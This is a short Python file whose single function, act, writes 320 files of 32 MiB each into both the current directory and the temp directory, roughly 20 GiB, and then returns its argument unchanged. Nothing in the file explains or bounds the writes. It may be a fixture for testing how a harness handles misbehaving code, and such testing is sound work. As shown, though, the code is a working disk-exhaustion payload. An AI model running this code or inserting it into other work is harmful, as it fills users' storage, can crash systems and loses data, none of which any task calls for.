import itertools
import os
import tempfile

PART = b"x" * (32 << 20)


def act(wrong):
    for number in itertools.islice(itertools.count(), 320):
        for folder in (os.getcwd(), tempfile.gettempdir()):
            with open(f"{folder}/part{number}", "wb") as file:
                file.write(PART)
    return wrong
